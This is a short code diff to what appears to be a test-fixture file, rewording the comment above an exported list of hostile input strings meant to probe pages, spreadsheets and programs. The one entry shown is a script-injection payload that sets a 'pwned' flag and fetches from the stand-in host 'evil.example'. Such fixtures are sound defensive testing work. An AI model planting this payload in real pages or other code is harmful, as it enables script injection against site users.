@@ -1,8 +1,8 @@
 const marks = '\u200b\u200d\u2060'
 
 /**
- * What somebody may enter as a text, in the hope that a page runs it, a spreadsheet computes it or a program trips over
- * it. `pwned` is what a script would set, `evil.example` whom it would ask.
+ * Texts that a page might execute, a spreadsheet might calculate or a program might fail on. Scripts would set `pwned`
+ * and call `evil.example`.
  */
 export const hostileTexts: readonly string[] = [
   '<script>pwned=1;fetch("//evil.example")</script>',
